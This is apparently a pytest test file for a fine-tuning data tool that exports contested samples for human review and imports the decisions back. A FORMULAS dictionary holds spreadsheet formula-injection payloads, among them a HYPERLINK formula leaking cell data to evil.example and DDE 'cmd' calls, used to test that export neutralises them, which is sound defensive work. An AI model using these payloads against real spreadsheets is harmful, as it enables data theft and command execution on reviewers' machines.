"""Human review: export the contested samples, a person decides, import into the fine-tuning set."""

from __future__ import annotations

import csv
import json
import shutil

import pytest

from robustft.cli import main
from robustft.errors import UserError
from robustft.inspect.review import COLUMNS, export_review, import_review
from robustft.inspect.trace import trace

from recorded import make_run, read_jsonl


@pytest.fixture(scope="module")
def pristine(tmp_path_factory):
    result, _ = make_run(tmp_path_factory.mktemp("review"))
    return result.out_dir


@pytest.fixture
def run_dir(pristine, tmp_path):
    """A fresh copy per test: import changes the run directory."""
    return shutil.copytree(pristine, tmp_path / "run")


def read_csv(path):
    with open(path, newline="", encoding="utf-8-sig") as fh:
        return list(csv.DictReader(fh))


def write_csv(path, rows):
    with open(path, "w", newline="", encoding="utf-8") as fh:
        w = csv.DictWriter(fh, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)


def decide(rows, **decisions):
    for row in rows:
        row["decision"] = decisions.get(row["id"], row["decision"])
    return rows


def test_export_lists_the_flagged_samples_with_what_a_person_needs(run_dir):
    path, n = export_review(run_dir)
    rows = read_csv(path)
    assert path == run_dir / "review.csv" and n == 4
    assert list(rows[0]) == COLUMNS
    assert [r["id"] for r in rows] == ["q1", "q2", "q3", "q5"]
    q2 = rows[1]
    assert (q2["status"], q2["original_label"], q2["proposed_label"], q2["current_label"]) == ("relabeled", "A", "D", "D")
    assert q2["options"] == "A. alpha\nB. beta\nC. gamma\nD. delta" and q2["decision"] == ""
    assert (q2["base_answer"], q2["reasoning_answer"], q2["context_answer"]) == ("C", "C", "D")
    q5 = rows[3]
    assert q5["status"] == "dropped" and q5["current_label"] == "" and q5["score"] == "1.5"


def test_score_above_keeps_only_uncertain_relabels(run_dir):
    path, n = export_review(run_dir, run_dir / "uncertain.csv", score_above=0.1)
    assert [r["id"] for r in read_csv(path)] == ["q2", "q3", "q5"]  # q1 (0.05) is a confident relabel
    with pytest.raises(UserError, match="exists"):
        export_review(run_dir, run_dir / "uncertain.csv")
    export_review(run_dir, run_dir / "uncertain.csv", force=True)


def test_import_applies_decisions_and_round_trips(run_dir):
    path, _ = export_review(run_dir)
    before = read_jsonl(run_dir / "denoised.jsonl")
    # q1: keep its original label; q2: the right letter; q3: rescue the dropped relabel; q5: stays out.
    write_csv(path, decide(read_csv(path), q1="keep", q2="c", q3="accept", q5="drop"))
    result = import_review(run_dir, path)
    assert result.decided == 4 and result.unchanged == 1 and len(result.changed) == 3
    after = {d["id"]: d for d in read_jsonl(run_dir / "denoised.jsonl")}
    assert after["q1"]["label"] == "A" and after["q1"]["source"] == "human"
    assert after["q2"]["label"] == "C" and after["q2"]["source"] == "human"
    assert after["q3"]["label"] == "D" and after["q3"]["source"] == "human"
    assert "q5" not in after
    assert [d["id"] for d in read_jsonl(run_dir / "denoised.jsonl")] == [f"q{i}" for i in range(12) if i != 5]
    assert read_jsonl(run_dir / "denoised.before_review.jsonl") == before
    log = read_jsonl(run_dir / "review_log.jsonl")
    assert [(e["id"], e["effect"]) for e in log] == [("q1", "relabeled"), ("q2", "relabeled"), ("q3", "added")]
    assert log[0]["before"] == {"label": "B", "source": "relabeled"} and log[0]["after"] == {"label": "A", "source": "human"}
    # Importing the same file again changes nothing.
    again = import_review(run_dir, path)
    assert not again.changed and again.unchanged == 4
    assert len(read_jsonl(run_dir / "review_log.jsonl")) == 3
    # The trace tells the story.
    out = trace(run_dir, "q3")
    assert "human review" in out and "decision 'accept'" in out
    assert "after human review: in the fine-tuning set with label D (delta) (source human)" in out


def test_a_bad_row_is_named_and_nothing_changes(run_dir):
    path, _ = export_review(run_dir)
    original = (run_dir / "denoised.jsonl").read_text()
    rows = decide(read_csv(path), q1="keep", q3="E")
    write_csv(path, rows)
    with pytest.raises(UserError, match=r"row 3 \(id q3\): decision 'E' is not usable.*a letter A-D"):
        import_review(run_dir, path)
    rows[2].update(id="q99", decision="A")
    write_csv(path, rows)
    with pytest.raises(UserError, match=r"row 3 \(id q99\): no sample with this id"):
        import_review(run_dir, path)
    rows[2].update(id="q1", decision="A")
    write_csv(path, rows)
    with pytest.raises(UserError, match=r"row 3 \(id q1\): id q1 appears again \(first on row 1\)"):
        import_review(run_dir, path)
    assert (run_dir / "denoised.jsonl").read_text() == original
    assert not (run_dir / "review_log.jsonl").exists()


def test_jsonl_review_files_and_the_cli(run_dir, capsys):
    out = run_dir / "review.jsonl"
    assert main(["review", "export", str(run_dir), "--out", str(out)]) == 0
    assert "wrote 4 contested samples" in capsys.readouterr().out
    rows = read_jsonl(out)
    assert rows[0]["options"] == ["alpha", "beta", "gamma", "delta"]
    rows[3]["decision"] = "B"  # q5: the proposed label was right after all
    out.write_text("".join(json.dumps(r) + "\n" for r in rows))
    assert main(["review", "import", str(run_dir), str(out)]) == 0
    assert "1 changed the fine-tuning set (1 added)" in capsys.readouterr().out
    assert {d["id"]: d["label"] for d in read_jsonl(run_dir / "denoised.jsonl")}["q5"] == "B"
    rows[0]["decision"] = "Z"
    out.write_text("".join(json.dumps(r) + "\n" for r in rows))
    assert main(["review", "import", str(run_dir), str(out)]) == 2
    assert "row 1 (id q1)" in capsys.readouterr().err


def test_human_decisions_survive_a_rerun_of_denoise(tmp_path):
    result, _ = make_run(tmp_path)
    path, _ = export_review(result.out_dir)
    write_csv(path, decide(read_csv(path), q2="B", q1="drop"))
    import_review(result.out_dir, path)
    again, fakes = make_run(tmp_path, beta=1.0)  # resumes (no calls) and re-selects
    assert all(not f.calls for f in fakes.values())
    by_id = {d["id"]: d for d in read_jsonl(again.out_dir / "denoised.jsonl")}
    assert by_id["q2"]["label"] == "B" and by_id["q2"]["source"] == "human"
    assert "q1" not in by_id
    assert "q5" in by_id  # beta=1.0 now keeps the relabel a person did not touch
    tool = {d["id"]: d for d in read_jsonl(again.out_dir / "denoised.before_review.jsonl")}
    assert tool["q2"]["label"] == "D" and "q1" in tool


def rewrite_records(run_dir, change):
    """Edit samples.jsonl (and the matching rows of denoised.jsonl) in place: change(record) -> record."""
    for name in ("samples.jsonl", "denoised.jsonl"):
        rows = [change(r) for r in read_jsonl(run_dir / name)]
        (run_dir / name).write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")


FORMULAS = {"q1": '=HYPERLINK("http://evil.example/?leak="&A1,"click")', "q2": "+cmd|' /C calc'!A0",
            "q3": "@SUM(1+1)*cmd|' /C calc'!A0", "q5": "\t=1+1"}


def test_export_neutralises_spreadsheet_formulas_and_import_restores_them(run_dir):
    def change(r):
        if r["id"] in FORMULAS:
            r["question"] = FORMULAS[r["id"]]
        if r["id"] == "q2":
            r["id"] = "=2+2"  # an id a spreadsheet would compute
        if r.get("proposed_label") == "D":
            r["proposed_label"] = "-1"  # a plain number stays a number
        return r

    rewrite_records(run_dir, change)
    path, _ = export_review(run_dir)
    with open(path, newline="", encoding="utf-8-sig") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and c != "-1"]
    assert dangerous == []
    rows = read_csv(path)
    assert rows[0]["question"] == "'" + FORMULAS["q1"] and rows[1]["id"] == "'=2+2"
    assert rows[1]["proposed_label"] == "-1"
    # A person decides in the spreadsheet; the file goes back as it came.
    write_csv(path, decide(rows, **{"'=2+2": "keep"}))
    result = import_review(run_dir, path)
    assert [(c["id"], c["effect"]) for c in result.changed] == [("=2+2", "relabeled")]
    after = {d["id"]: d for d in read_jsonl(run_dir / "denoised.jsonl")}
    assert after["=2+2"]["label"] == "A" and after["=2+2"]["source"] == "human"


@pytest.mark.parametrize("value", ["=1", "'=1", "''+x", "'plain", "-3.5", "+2", "-", "@", "a=b", "", "\r\n=x"])
def test_the_formula_guard_round_trips_every_value(value):
    from robustft.inspect.review import neutralise_cell, restore_cell

    assert restore_cell(neutralise_cell(value)) == value
    assert neutralise_cell(value)[:1] not in ("=", "+", "@", "\t", "\r") or value in ("-3.5", "+2")


def test_fields_past_the_csv_module_limit_and_odd_line_breaks_round_trip(run_dir):
    long_question = "A long context paragraph. " * 8000  # about 200 KB, past csv's default 128 KB field limit
    odd = "one\u2028two\x1cthree\x85four"

    def change(r):
        if r["id"] == "q1":
            r["question"] = long_question
        if r["id"] == "q3":
            r["question"] = odd
        return r

    rewrite_records(run_dir, change)
    path, _ = export_review(run_dir)
    rows = read_csv_large(path)
    assert rows[0]["question"] == long_question and rows[2]["question"] == odd
    write_csv(path, decide(rows, q1="B", q3="accept"))
    result = import_review(run_dir, path)
    assert sorted(c["id"] for c in result.changed) == ["q1", "q3"]


def read_csv_large(path):
    old = csv.field_size_limit(10**8)
    try:
        return read_csv(path)
    finally:
        csv.field_size_limit(old)


@pytest.mark.parametrize("content, needle", [
    (b"id,decision\nq1,keep\x00\n", "line 2: holds a NUL byte"),
    (b"id,decision\nq1,\xff\xfekeep\n", "line 2: not UTF-8"),
    (b"id,decision\nq1,keep,extra,cells\n", "row 1: more cells than columns"),
    (b"question,answer\nq,a\n", "needs the columns 'id' and 'decision'"),
    (b"", "needs the columns 'id' and 'decision' (found: none)"),
])
def test_a_damaged_review_file_is_named_and_nothing_changes(run_dir, content, needle, capsys):
    path = run_dir / "review.csv"
    path.write_bytes(content)
    before = {p.name: p.read_bytes() for p in run_dir.iterdir() if p.is_file()}
    assert main(["review", "import", str(run_dir), str(path)]) == 2
    err = capsys.readouterr().err
    assert str(path) in err and needle in err and "Traceback" not in err
    assert {p.name: p.read_bytes() for p in run_dir.iterdir() if p.is_file()} == before
